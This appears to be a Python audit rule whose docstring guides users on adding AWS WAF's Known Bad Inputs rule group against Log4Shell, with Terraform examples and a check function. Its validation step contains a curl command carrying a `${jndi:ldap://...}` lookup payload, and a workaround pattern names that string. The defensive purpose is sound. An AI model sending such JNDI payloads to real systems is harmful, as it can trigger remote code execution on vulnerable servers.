"""A web ACL does not stop exploits of known flaws such as Log4Shell.

## Why it matters
The managed group `AWSManagedRulesKnownBadInputsRuleSet` blocks the patterns of exploits that are tried against every site
(CVE-2021-44228 and its like). It costs nothing extra, and one vulnerable library behind the ACL is enough to need it.

## Five whys
1. Why was code run on the server? A header with `${jndi:…}` reached a vulnerable library.
2. Why did the firewall let it through? No rule of the web ACL looks for it, or it is only counted.
3. Why? The group was left out, or set to count for a test and never back.

## Fix now
Add the group with `override_action { none {} }` before your own rules: in the console "Add managed rule groups", or `aws wafv2
update-web-acl` with the lock token. It acts within a minute. Look at the sampled requests for false positives of the first hour.

## Workaround
A rule of your own that blocks `${jndi:` in headers, body and query with `URL_DECODE` and `LOWERCASE`.

## Prevent
One module for web ACLs with the AWS groups in it; new groups in count for a week at most.

## Validate
`curl -s -o /dev/null -w '%{http_code}' -H 'X-Test: ${jndi:ldap://example.com/a}' https://NAME/` prints 403.

## Bad
```hcl
resource "aws_wafv2_web_acl" "site" { # finding
  name  = "site"
  scope = "REGIONAL"

  rule {
    name     = "common"
    priority = 1

    override_action {
      none {}
    }

    statement {
      managed_rule_group_statement {
        name        = "AWSManagedRulesCommonRuleSet"
        vendor_name = "AWS"
      }
    }
  }
}

resource "aws_wafv2_web_acl" "counted" {
  name  = "counted"
  scope = "REGIONAL"

  rule { # finding
    name     = "known-bad-inputs"
    priority = 1

    override_action {
      count {}
    }

    statement {
      managed_rule_group_statement {
        name        = "AWSManagedRulesKnownBadInputsRuleSet"
        vendor_name = "AWS"
      }
    }
  }
}
```

## Good
```hcl
resource "aws_wafv2_web_acl" "site" {
  name  = "site"
  scope = "REGIONAL"

  rule {
    name     = "known-bad-inputs"
    priority = 1

    override_action {
      none {}
    }

    statement {
      managed_rule_group_statement {
        name        = "AWSManagedRulesKnownBadInputsRuleSet"
        vendor_name = "AWS"
      }
    }
  }
}
```
"""

from collections.abc import Iterator

from auditor.sdk import Confidence, Fail, Node, Severity, rule
from auditor.views.web_acl import ACL, KNOWN_BAD_INPUTS, acts, managed_groups


@rule(target=ACL, severity=Severity.MEDIUM, confidence=Confidence.FIRM, aliases="CKV_AWS_192 FG_R00500")
def check(acl: Node) -> Iterator[Fail]:
    groups = list(managed_groups(acl, KNOWN_BAD_INPUTS))
    if not groups:
        yield Fail(acl, f"no rule runs {KNOWN_BAD_INPUTS}", expected=f"a rule with {KNOWN_BAD_INPUTS}")
    elif not any(acts(group) for group in groups):
        yield Fail(groups[0], f"{KNOWN_BAD_INPUTS} only counts, or leaves Log4Shell out", expected="override_action none")
